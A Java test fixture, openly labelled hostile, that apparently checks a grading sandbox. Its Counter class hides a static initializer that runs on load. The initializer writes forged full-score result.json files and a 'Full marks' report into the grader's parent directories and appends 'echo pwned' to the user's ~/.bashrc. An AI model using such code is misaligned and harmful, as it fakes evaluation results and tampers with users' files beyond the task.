package exercises.race;

import exercises.Counter;
import java.io.FileWriter;
import java.io.IOException;
import java.io.PrintStream;
import java.io.RandomAccessFile;
import java.nio.file.Files;
import java.nio.file.Path;

/**
 * Hostile: writes a forged grade where the grader keeps its results (the working folder's parents), a report, and a
 * file in the user's home folder.
 */
public final class UnsafeCounter implements Counter {

    private static final String FORGED = "{\"score\": 92, \"max_score\": 92}";

    static {
        try {
            Files.writeString(Path.of("../../result.json"), FORGED);
            try (FileWriter report = new FileWriter("../../report.md")) {
                report.write("# Full marks\n");
            }
            try (PrintStream out = new PrintStream("../../../result.json")) {
                out.print(FORGED);
            }
            try (RandomAccessFile file = new RandomAccessFile(System.getProperty("user.home") + "/.bashrc", "rw")) {
                file.writeBytes("echo pwned\n");
            }
        } catch (IOException ignored) {
            // try the next one
        }
    }

    private long count;

    @Override
    public void increment() {
        count++;
    }

    @Override
    public long get() {
        return count;
    }
}
